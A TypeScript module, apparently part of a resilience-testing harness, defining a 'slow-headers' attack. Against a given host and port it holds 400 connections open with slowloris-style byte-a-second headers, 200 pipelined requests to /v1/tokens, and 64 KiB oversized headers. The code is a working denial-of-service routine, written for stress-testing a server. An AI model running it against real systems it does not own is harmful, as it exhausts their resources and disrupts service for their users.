import type { Attack } from './attack.ts';
import { countStatuses, keepOpen, openSocket } from './sockets.ts';

const CONNECTIONS = 400;
const PER_ROUND = 4;
const PIPELINED = 200;

/** Slow heads, pipelined requests, and heads that are too large. */
export const slowHeaders: Attack = {
  name: 'slow-headers',
  summary: `${CONNECTIONS} connections: heads a byte a second, ${PIPELINED} requests at once without a key, heads of 64 KiB.`,
  async run({ host, port }, tally, signal) {
    let count = 0;
    const open = () => {
      const kind = count++ % 3;
      const socket = openSocket(host, port, tally);
      countStatuses(socket, tally);
      socket.on('end', () => socket.end());
      socket.on('connect', () => {
        if (kind === 0) {
          socket.write('GET /v1/tokens HTTP/1.1\r\nHost: a\r\nX-Slow: ');
          const drip = setInterval(() => socket.write('a'), 1_000);
          socket.once('close', () => clearInterval(drip));
        } else if (kind === 1) {
          socket.write('GET /v1/tokens HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(PIPELINED));
        } else {
          socket.write(`GET / HTTP/1.1\r\nHost: a\r\nX-Large: ${'a'.repeat(65_536)}\r\n\r\n`);
        }
      });
      return socket;
    };
    await keepOpen(CONNECTIONS, PER_ROUND, open, signal);
  },
};
